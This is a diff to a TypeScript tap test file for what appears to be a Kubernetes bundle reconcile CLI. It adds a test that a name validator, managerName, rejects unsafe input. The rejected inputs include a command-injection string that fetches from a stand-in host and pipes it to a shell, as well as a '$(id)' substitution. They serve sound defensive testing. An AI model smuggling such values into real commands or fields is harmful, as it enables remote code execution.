@@ -2,7 +2,7 @@ import t from 'tap';
 import { DEPLOY_REQUESTED, RECONCILE_REQUESTED } from '../../api/annotations.js';
 import type { StoredBundle, WerfBundleSpec, WerfBundleStatus } from '../../api/werfbundle.js';
 import { wordsOfManagers } from '../../cli/cluster/manager-words.js';
-import { managersOf } from '../../cli/cluster/managers.js';
+import { managerName, managersOf } from '../../cli/cluster/managers.js';
 import { type ReconcileOptions, reconcileBundles } from '../../cli/reconcile/command.js';
 import { outcomeOf, type Request } from '../../cli/reconcile/outcome.js';
 import { rollbackTag } from '../../cli/rollback/target.js';
@@ -403,5 +403,12 @@ t.test('the tag to go back to is the last other one that worked', (t) => {
     followAgain(before, 'main-7'),
     `kubectl patch wb my-app -n ops --type merge -p '{"spec":{"registry":{"tag":null,"tagPattern":"^main-(\\\\d+)$","tagOrder":"Number"}}}'`,
   );
+  t.end();
+});
+
+t.test('a name that stands on an object is told only if something can be called so', (t) => {
+  for (const name of ['apps', 'a.b-c', 'argocd_shop']) t.equal(managerName(name), name);
+  for (const name of ['x; curl evil.example|sh', 'x$(id)', 'a\nb', 'x\u001b[31m', '', '-rf', 'A'.repeat(300)])
+    t.equal(managerName(name), undefined, JSON.stringify(name));
   t.end();
 });
